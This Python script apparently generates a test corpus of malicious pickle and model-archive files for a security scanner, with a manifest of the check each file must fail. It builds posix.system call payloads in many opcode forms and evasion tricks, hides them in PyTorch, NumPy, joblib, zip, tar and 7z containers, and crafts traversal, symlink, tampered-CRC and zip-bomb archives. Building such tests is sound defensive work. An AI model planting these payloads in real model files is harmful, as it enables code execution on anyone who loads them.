"""Writes malicious files of the pickle family, assembled opcode by opcode. Nothing is ever loaded.

Run `python bench/supply_corpus/malicious.py OUT`. `manifest.json` there says for each file which check must fail and
the reason that it must give: the name that the pickle must not reach, or the code of the broken format.
"""

import argparse
import bz2
import gzip
import io
import json
import lzma
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple

sys.path.insert(0, str(Path(__file__).parent))

from gadgets import GADGETS, NAMED, Gadget

PICKLE, CONTAINER = "LG-SUPPLY-003", "LG-SUPPLY-006"
RUN = Gadget("posix", "system")
RUN_NAME = "posix.system"


class Sample(NamedTuple):
    """One malicious file.

    Attributes:
        name: File name.
        body: Its bytes.
        check: Id of the check that must fail.
        reasons: Reasons of which at least one must be given.
        advisories: Identifiers of what it stands for.
    """

    name: str
    body: bytes
    check: str
    reasons: tuple[str, ...]
    advisories: tuple[str, ...] = ()


def _short(text: str) -> bytes:
    body = text.encode()
    return b"\x8c" + bytes([len(body)]) + body


def _long(text: str) -> bytes:
    return b"X" + struct.pack("<I", len(text)) + text.encode()


def _global(item: Gadget) -> bytes:
    return f"c{item.module}\n{item.name}\n".encode()


def by_reduce(item: Gadget) -> bytes:
    return _global(item) + b"(S'" + item.argument.replace("'", '"').encode() + b"'\ntR."


def by_inst(item: Gadget) -> bytes:
    return b"(S'x'\n" + f"i{item.module}\n{item.name}\n".encode() + b"."


def by_obj(item: Gadget) -> bytes:
    return b"(" + _global(item) + b"S'x'\no."


def by_newobj(item: Gadget) -> bytes:
    return b"\x80\x02" + _global(item) + _long("x") + b"\x85\x81."


def by_newobj_ex(item: Gadget) -> bytes:
    return b"\x80\x04" + _short(item.module) + _short(item.name) + b"\x93" + _short("x") + b"\x85}\x92."


def by_memo(item: Gadget) -> bytes:
    """The name is spelled early, kept, and put together much later."""
    early = b"\x80\x04" + _short(item.module) + b"\x94" + _short(item.name) + b"\x940" + b"0"
    return early + b"]\x94(" + b"K\x01" * 40 + b"e0h\x00h\x01\x93\x8c\x01x\x85R."


def by_late_build(item: Gadget) -> bytes:
    """Used as a value and then built, so that nothing looks unused."""
    made = b"\x80\x04" + _short(item.module) + _short(item.name) + b"\x93\x8c\x01x\x85R"
    return made + b"}" + _short("a") + b"K\x01sb."


def by_state(item: Gadget) -> bytes:
    """Beside ordinary content."""
    return (
        b"\x80\x04}(" + _short("epoch") + b"K\x05" + _short("loss") + b"G" + bytes(8) + _short("hook")
        + _short(item.module) + _short(item.name) + b"\x93\x8c\x01x\x85Ru."
    )  # fmt: skip


def by_import(item: Gadget) -> bytes:
    return b"\x80\x04" + _short(item.module) + _short(item.name) + b"\x93."


FORMS: dict[str, Callable[[Gadget], bytes]] = {
    "reduce": by_reduce,
    "inst": by_inst,
    "obj": by_obj,
    "newobj": by_newobj,
    "newobj-ex": by_newobj_ex,
    "memo": by_memo,
    "late-build": by_late_build,
    "state": by_state,
    "import": by_import,
}


def gadget_samples() -> Iterator[Sample]:
    for number, item in enumerate(GADGETS):
        dotted = "." in item.name
        plain = f"{item.module}.{item.name}"
        reasons = ("unresolved-name",) if dotted else (plain, plain.replace("__builtin__", "builtins"), _mapped(plain))
        chosen = ["memo", "late-build", "state"] if dotted else ["reduce", "memo", "state"]
        chosen += [list(FORMS)[number % len(FORMS)]] if item not in NAMED and not dotted else []
        for form in sorted(set(chosen)):
            name = f"{item.module}.{item.name}.{form}.pkl"
            yield Sample(f"gadgets/{name}", FORMS[form](item), PICKLE, reasons, item.advisories)
    for form, make in FORMS.items():
        yield Sample(f"forms/{form}.pkl", make(RUN), PICKLE, (RUN_NAME,))


def _mapped(name: str) -> str:
    return {"commands.getoutput": "subprocess.getoutput", "builtins.apply": "builtins.apply"}.get(name, name)


_CHECK = b"csklearn.utils.validation\ncheck_array\n"
_KEPT_CHECK = b"cfunctools\npartial\n" + _CHECK + b"\x85R"
_KEPT_BLOCK = b"cfunctools\npartial\ncpandas.core.internals.blocks\nnew_block\n\x85R"

TRICKS: dict[str, tuple[bytes, str, tuple[str, ...]]] = {
    "extension registry": (b"\x80\x02\x82\x01)R.", "extension", ()),
    "extension registry, wide": (b"\x80\x02\x84\x01\x00\x00\x00)R.", "extension", ()),
    "out-of-band buffer": (b"\x80\x05\x97.", "buffer", ()),
    "read-only buffer": (b"\x80\x05\x97\x98.", "buffer", ()),
    "values left behind": (b"NN.", "unclean-stack", ()),
    "second pickle": (b"N." + by_reduce(RUN), "trailing-bytes", ()),
    "bytes behind the end": (b"\x80\x04N." + b"MZ" * 40, "trailing-bytes", ()),
    "broken after the call": (_global(RUN) + b"(S'x'\ntR\xff", "posix.system", ()),
    "cut off after the call": (_global(RUN) + b"(S'x'\ntR", "posix.system", ()),
    "attribute chain": (b"cbuiltins\ngetattr\n(cbuiltins\nlist\nS'append'\ntR.", "builtins.getattr", ()),
    "getattr of a module": (b"cbuiltins\ngetattr\n(csklearn.pipeline\nPipeline\n)\x81S'predict'\ntR.", "builtins.getattr", ()),  # noqa: E501 - one trick a line
    "attrgetter": (b"coperator\nattrgetter\n(S'system'\ntR.", "operator.attrgetter", ()),
    "partial of a call": (b"cfunctools\npartial\n(cposix\nsystem\nS'x'\ntR.", "functools.partial", ()),
    "computed call": (b"ccollections\nOrderedDict\n)R)R.", "computed-call", ()),
    "class attributes overwritten": (b"csklearn.pipeline\nPipeline\n}S'predict'\nNsb.", "sklearn.pipeline.Pipeline", ()),  # noqa: E501 - one trick a line
    "function attributes overwritten": (b"c_codecs\nencode\n}S'__code__'\nNsb.", "_codecs.encode", ()),
    "list of allowed names overwritten": (
        b"ctorch.serialization\n_safe_globals\n}S'x'\nNsb.", "torch.serialization._safe_globals", ()),
    "setstate planted": (b"csklearn.pipeline\nPipeline\n)\x81}S'__setstate__'\nc_codecs\nencode\nsb.", "hook", ()),
    "class swapped": (b"csklearn.pipeline\nPipeline\n)\x81N}S'__class__'\nNs\x86b.", "hook", ()),
    "hidden attribute name": (b"csklearn.pipeline\nPipeline\n)\x81}S'__set\\x73tate__'\nNsb.", "state", ()),
    "state made by a call": (
        b"csklearn.pipeline\nPipeline\n)\x81cbuiltins\ndict\n(((S'__class__'\nNtltRb.", "state", ()),
    "template of code in a distribution": (
        b"cscipy.stats._continuous_distns\nnorm_gen\n)\x81}S'_parse_arg_template'\nS'import os'\nsb.",
        "scipy.stats._continuous_distns.norm_gen", ()),
    "dotted name": (b"\x80\x04" + _short("sklearn") + _short("os.system") + b"\x93.", "unresolved-name", ()),
    "name that is not ASCII": (b"cpos\xc4\xb1x\nsystem\n.", "unresolved-name", ()),
    "name with an escape": (b"S'posix'\nS'sy\\x73tem'\n\x93)R.", "unresolved-name", ()),
    "name from a call": (b"\x80\x04c_codecs\nencode\nS'posix'\nS'latin1'\n\x86RS'system'\n\x93.", "unresolved-name", ()),  # noqa: E501 - one trick a line
    "name at the first position of the memo": (
        b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94h\x00h\x01\x93\x8c\x01x\x85R0N.", "posix.system",
        ("CVE-2025-71325", "GHSA-9gvj-pp9x-gcfr")),
    "name under another memo number": (
        b"\x80\x04\x8c\x05posixq\x07\x8c\x06systemq\x0900h\x07h\x09\x93\x8c\x01x\x85R.", "posix.system", ()),
    "number in another base": (b"I0x10\n0" + by_reduce(RUN), "posix.system", ()),
    "unused result": (by_reduce(RUN)[:-1] + b"0N.", "posix.system", ("GHSA-mhc9-48gj-9gp3",)),
    "persistent id": (b"S'evil'\nQ.", "persistent-id", ()),
    "unknown storage": (
        b"(S'storage'\ncposix\nsystem\nS'0'\nS'cpu'\nI4\ntQ.", "posix.system", ()),
    "codec other than Latin-1": (b"c_codecs\nencode\n(S'x'\nS'zip'\ntR.", "_codecs.encode", ()),
    "codec applied to bytes": (b"\x80\x03c_codecs\nencode\nK\x01S'latin1'\n\x86R.", "_codecs.encode", ()),
    "array of a terabyte": (
        b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\n(I1000000000000\ntC\x01btR.",
        "numpy.core.multiarray._reconstruct", ()),
    "array of a foreign class": (
        b"cnumpy.core.multiarray\n_reconstruct\n(cposix\nsystem\n(I0\ntC\x01btR.", "posix.system", ()),
    "memory": (b"cbuiltins\nbytearray\n(I999999999999\ntR.", "builtins.bytearray", ()),
    "reconstructor of a foreign class": (
        b"ccopy_reg\n_reconstructor\n(cposix\nsystem\nc__builtin__\nobject\nNtR.", "copyreg._reconstructor", ()),
    "default factory": (b"ccollections\ndefaultdict\n(cposix\nsystem\ntR.", "posix.system", ()),
    "estimator called": (b"csklearn.pipeline\nPipeline\n(NtR.", "sklearn.pipeline.Pipeline", ()),
    "reference called": (b"cnumpy\nexp\n(I1\ntR.", "numpy.exp", ()),
    "shared tuples": (
        b"\x80\x04N" + b"".join(b"\x94h" + bytes([n]) + b"\x86" for n in range(60)) + b".", "expansion", ()),
    "shared lists filled late": (
        b"\x80\x04(" + b"]\x94" * 60 + b"l0" + b"".join(b"h" + bytes([n]) + b"(" + (b"h" + bytes([n + 1])) * 4 + b"e0" for n in range(59)) + b"h\x00.", "expansion", ()),  # noqa: E501 - one trick a line
    "deep nesting": (b"\x80\x04N" + b"\x85" * 5000 + b".", "depth", ()),
    "endless values": (b"\x80\x04N" * 600_000 + b".", "stack", ()),
    "endless marks": (b"\x80\x04(" * 600_000 + b".", "mark", ()),
    "memo far away": (b"\x80\x04Nr\xff\xff\xff\x7f.", "memo", ()),
    "frame of a petabyte": (b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\x03\x00N.", "truncated", ()),
    "bytes of a terabyte": (b"\x80\x04\x8e\x00\x00\x00\x00\x00\x01\x00\x00x.", "truncated", ()),
    "storage loader with a program": (
        b"\x80\x03ctorch.storage\n_load_from_bytes\nC" + bytes([len(by_reduce(RUN))]) + by_reduce(RUN) + b"\x85R.", "posix.system", ()),  # noqa: E501 - one trick a line
    "kept check called": (
        b"\x80\x02" + _KEPT_CHECK + b"(" + _CHECK + b")}S'dtype'\nNsNtb)R.", "computed-call", ()),
    "kept check with a state of another function": (
        b"\x80\x02" + _KEPT_CHECK + b"(cposix\nsystem\n)}Ntb.", "posix.system", ()),
    "kept block that becomes a check": (
        b"\x80\x02" + _KEPT_BLOCK + b"(" + _CHECK + b")}S'dtype'\nNsNtb)R.", "state", ()),
    "kept check with arguments": (
        b"\x80\x02" + _KEPT_CHECK + b"(" + _CHECK + b"(S'x'\nt}S'dtype'\nNsNtb.", "state", ()),
    "kept check with an unusual option": (
        b"\x80\x02" + _KEPT_CHECK + b"(" + _CHECK + b")}S'estimator'\nNsNtb.", "state", ()),
    "kept check with a function for an element type": (
        b"\x80\x02" + _KEPT_CHECK + b"(" + _CHECK + b")}S'dtype'\ncnumpy\nmean\nsNtb.", "state", ()),
    "kept check with a mapping for a state": (
        b"\x80\x02" + _KEPT_CHECK + b"}S'func'\nNsb.", "state", ()),
    "matrix of many rows": (
        b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy.matrixlib.defmatrix\nmatrix\n(I99\ntC\x01btR.",
        "numpy.core.multiarray._reconstruct", ()),
    "file read by NumPy": (b"cnumpy\nload\n(S'/etc/passwd'\ntR.", "numpy.load", ()),
    "file loaded by joblib": (b"cjoblib\nload\n(S'x'\ntR.", "joblib.load", ()),
    "file loaded by PyTorch": (b"ctorch\nload\n(S'x'\ntR.", "torch.load", ()),
    "function applied along an axis": (
        b"cnumpy\napply_along_axis\n(cposix\nsystem\nI0\nNtR.", "posix.system", ()),
    "factory planted in a mapping": (
        b"\x80\x02ccollections\ndefaultdict\n)R}S'default_factory'\ncposix\nsystem\nsb.", "posix.system", ()),
    "numpy wrapper of an old joblib": (
        b"cjoblib.numpy_pickle_compat\nNDArrayWrapper\n)\x81}S'filename'\nS'/etc/passwd'\nsb.",
        "joblib.numpy_pickle_compat.NDArrayWrapper", ()),
    "pickle inside bytes": (
        b"\x80\x03}X\x01\x00\x00\x00aC" + bytes([len(by_memo(RUN))]) + by_memo(RUN) + b"s.", "nested-pickle", ()),
}  # fmt: skip


def trick_samples() -> Iterator[Sample]:
    for name, (body, reason, advisories) in TRICKS.items():
        yield Sample(f"tricks/{name.replace(' ', '-').replace(',', '')}.pkl", body, PICKLE, (reason,), advisories)


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, body in members.items():
            archive.writestr(zipfile.ZipInfo(name), body, method)
    return stream.getvalue()


def torch_zip(program: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    return zipped({"m/data.pkl": program, "m/version": b"3\n", "m/data/0": bytes(16), **(extra or {})})


def torch_legacy(program: bytes) -> bytes:
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03."
    return magic + b"\x80\x02}q\x00X\x10\x00\x00\x00protocol_versionM\xe9\x03s." + program + b"\x80\x02]."


def tarred(members: dict[str, bytes], kind: bytes = tarfile.REGTYPE, target: str = "") -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, body in members.items():
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = kind, target
            entry.size = len(body) if kind == tarfile.REGTYPE else 0
            archive.addfile(entry, io.BytesIO(body))
    return stream.getvalue()


def npy(program: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(10 + len(header) + 1) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + program


def seven_zip(body: bytes, name: str = "m/data.pkl") -> bytes:
    names = b"\x00" + name.encode("utf-16-le") + b"\x00\x00"
    size = b"\xc0" + struct.pack("<H", len(body))
    header = b"\x01\x04\x06\x00\x01\x09" + size + b"\x00\x07\x0b\x01\x00\x01\x01\x00\x0c" + size
    header += (
        b"\x0a\x01"
        + struct.pack("<I", zlib.crc32(body))
        + b"\x00\x00\x05\x01\x11"
        + bytes([len(names)])
        + names
        + b"\x00\x00"
    )
    start = struct.pack("<QQI", len(body), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + body + header


def _flip(body: bytes, at: int, bits: int) -> bytes:
    return body[:at] + bytes([body[at] ^ bits]) + body[at + 1 :]


def _sized(body: bytes) -> bytes:
    """LZMA that states how long its content is, as the LZMA SDK writes it."""
    made = lzma.compress(body, lzma.FORMAT_ALONE)
    return made[:5] + struct.pack("<Q", len(body)) + made[13:]


def wrapped_samples() -> Iterator[Sample]:
    for form in ("reduce", "memo", "state"):
        program = FORMS[form](RUN)
        wrappers: dict[str, bytes] = {
            "model.bin": program,
            "model.dat": program,
            "README": program,
            "weights.safetensors": program,
            "model.pkl.gz": gzip.compress(program, mtime=0),
            "model.pkl.bz2": bz2.compress(program),
            "model.pkl.xz": lzma.compress(program),
            "model.joblib.lzma": lzma.compress(program, lzma.FORMAT_ALONE),
            "sized.joblib.lzma": _sized(program),
            "model.joblib.z": zlib.compress(program),
            "model.pt": torch_zip(program),
            "model.pth": torch_legacy(program),
            "deflated.pt": zipped({"m/data.pkl": program, "m/version": b"3\n"}, zipfile.ZIP_DEFLATED),
            "upper.pt": zipped({"m/DATA.PKL": program, "m/version": b"3\n"}),
            "second.pt": torch_zip(b"\x80\x02}.", {"m/other.pkl": program}),
            "odd-name.pt": zipped({"m/data.pkl": b"\x80\x02}.", "m/data.pkl.bak": program}),
            "model.zip": zipped({"a/b/notes.txt": b"hello", "a/b/model.dat": program}),
            "nested.zip": zipped({"inner.zip": zipped({"model.pkl": program})}),
            "model.tar": tarred({"model/model.pkl": program}),
            "model.nemo": tarred({"model_weights.ckpt": torch_zip(program)}),
            "model.tar.gz": gzip.compress(tarred({"model_weights.ckpt": program}), mtime=0),
            "model.mar": zipped({"MAR-INF/MANIFEST.json": b"{}", "model.pt": torch_zip(program)}),
            "model.7z": seven_zip(program),
            "nullified.pt": seven_zip(torch_zip(program)),
            "objects.npy": npy(program),
            "arrays.npz": zipped({"a.npy": npy(program)}),
        }
        advisories = {
            "model.dat": ("CVE-2025-1889", "GHSA-769v-p64c-89pr"),
            "model.bin": ("CVE-2025-10155",),
            "model.nemo": ("CVE-2025-23304",),
            "model.pt": ("CVE-2025-32434", "CVE-2025-23298"),
        }
        for name, body in wrappers.items():
            yield Sample(f"wrapped/{form}/{name}", body, PICKLE, (RUN_NAME,), advisories.get(name, ()))


def container_samples() -> Iterator[Sample]:
    program = by_reduce(RUN)
    good = torch_zip(program)
    central = good.index(b"PK\x01\x02")
    cases: dict[str, tuple[bytes, tuple[str, ...], tuple[str, ...]]] = {
        "bad-crc.pt": (good.replace(b"touch", b"TOUCH", 1), ("crc",), ("CVE-2025-10156",)),
        "flag-bits.pt": (_flip(good, central + 8, 1), ("local-header", "encrypted"), ("CVE-2025-1945",)),
        "flag-bits-both.pt": (_flip(_flip(good, central + 8, 1), 6, 1), ("encrypted",), ("CVE-2025-1945",)),
        "two-names.pt": (good.replace(b"m/data.pkl", b"m/data.txt", 1), ("local-header",), ("CVE-2025-1944",)),
        "prefix.pt": (b"GIF89a" + good, ("directory", "gap"), ()),
        "suffix.pt": (good + b"x" * 40, ("suffix",), ()),
        "duplicate.zip": (_duplicate(program), ("duplicate-member",), ()),
        "two-cases.pt": (zipped({"m/data.pkl": b"\x80\x02}.", "m/DATA.PKL": program}), ("duplicate-member",), ()),
        "climbs.zip": (zipped({"../model.pkl": program}), ("member-name",), ()),
        "link.tar": (tarred({"model.pkl": b""}, tarfile.SYMTYPE, "/etc/passwd"), ("member-type",), ()),
        "hard-link.tar": (tarred({"model.pkl": b""}, tarfile.LNKTYPE, "x"), ("member-type",), ()),
        "device.tar": (tarred({"model.pkl": b""}, tarfile.CHRTYPE), ("member-type",), ()),
        "pipe.tar": (tarred({"model.pkl": b""}, tarfile.FIFOTYPE), ("member-type",), ()),
        "climbs.tar": (tarred({"../model.pkl": program}), ("member-name",), ()),
        "suffix.tar": (tarred({"model.pkl": b"N."}) + by_reduce(RUN) * 20, ("suffix",), ()),
        "suffix.pkl.gz": (gzip.compress(b"\x80\x04N.", mtime=0) + program, ("suffix",), ()),
        "two-members.pkl.gz": (gzip.compress(b"\x80\x04N.", mtime=0) + gzip.compress(program), ("suffix",), ()),
        "bad-crc.7z": (seven_zip(program).replace(b"touch", b"TOUCH"), ("crc",), ()),
        "suffix.7z": (seven_zip(program) + b"x", ("header",), ()),
        "bomb.zip": (zipped({"model.pkl": bytes(40 << 20)}, zipfile.ZIP_DEFLATED), ("ratio",), ()),
        "reads-a-file.pt": (_script(b"torch.from_file('/etc/passwd', False, 10)"), ("torchscript-operator",), ()),
        "foreign-operator.pt": (_script(b"ops.evil.run(x)"), ("torchscript-operator",), ()),
        "imports.pt": (b"", ("torchscript-import",), ()),
        "wrong-size.npy": (npy(b"N.").replace(b"'|O'", b"'<f8'"), ("size",), ()),
    }
    cases["imports.pt"] = (_script(b"x", head=b"import os\n"), ("torchscript-import",), ())
    for name, (body, reasons, advisories) in cases.items():
        yield Sample(f"containers/{name}", body, CONTAINER, reasons, advisories)


def _script(line: bytes, head: bytes = b"") -> bytes:
    code = (
        head + b"class M(Module):\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    return " + line + b"\n"
    )
    data = b"\x80\x02c__torch__\nM\n)\x81}b."
    return zipped(
        {"m/data.pkl": data, "m/code/__torch__.py": code, "m/constants.pkl": b"\x80\x02).", "m/version": b"3\n"}
    )


def _duplicate(program: bytes) -> bytes:
    body = zipped({"model.pkl": b"N.", "modex.pkl": program})
    return body.replace(b"modex.pkl", b"model.pkl")


def samples() -> Iterator[Sample]:
    """Every malicious file."""
    yield from gadget_samples()
    yield from trick_samples()
    yield from wrapped_samples()
    yield from container_samples()


def main() -> None:
    parser = argparse.ArgumentParser(description="Write malicious files of the pickle family.")
    parser.add_argument("out", type=Path)
    out: Path = parser.parse_args().out
    rows: list[dict[str, object]] = []
    for sample in samples():
        target = out / sample.name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(sample.body)
        row = {"path": sample.name, "check": sample.check, "reasons": sample.reasons, "advisories": sample.advisories}
        rows.append(row)
    (out / "manifest.json").write_text(json.dumps(rows, indent=1))
    print(f"{len(rows)} files")


if __name__ == "__main__":
    main()
